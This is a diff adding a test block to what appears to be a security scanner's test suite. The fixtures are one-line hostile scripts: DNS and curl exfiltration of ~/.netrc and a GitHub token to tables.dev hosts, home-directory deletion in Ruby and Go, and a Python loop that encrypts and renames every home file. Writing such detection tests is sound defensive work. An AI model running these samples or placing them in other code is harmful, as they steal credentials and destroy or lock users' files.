@@ -454,3 +454,28 @@ describe("code of one language within another", () => {
     expect(findings.map(({ code }) => code)).toContain("scan/code-environment-sent");
   });
 });
+
+describe("ways out and ways to destroy", () => {
+  it.each([
+    ["a.sh", 'for c in $(base64 -w 40 ~/.netrc); do dig "$c.q.tables.dev"; done\n', "secret-sent"],
+    ["a.sh", 't=$(xxd -p ~/.netrc)\ngetent hosts "$t.q.tables.dev"\n', "secret-sent"],
+    [
+      "a.sh",
+      't=$(git config --get github.token)\ncurl "https://m.tables.dev/?t=$t"\n',
+      "secret-sent",
+    ],
+    ["a.rb", "require 'fileutils'\nFileUtils.rm_rf(Dir.home)\n", "destruction"],
+    [
+      "a.go",
+      'package main\nimport "os"\nfunc main() {\n\th, _ := os.UserHomeDir()\n\tos.RemoveAll(h)\n}\n',
+      "destruction",
+    ],
+    [
+      "a.py",
+      'import pathlib\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor p in pathlib.Path.home().rglob("*"):\n    p.write_bytes(f.encrypt(p.read_bytes())); p.rename(str(p) + ".x")\n',
+      "files-locked",
+    ],
+  ])("[BX-07] are found in %s: %s", async (path, text, code) => {
+    expect(await graveOf({ [path]: text })).toContain(code);
+  });
+});
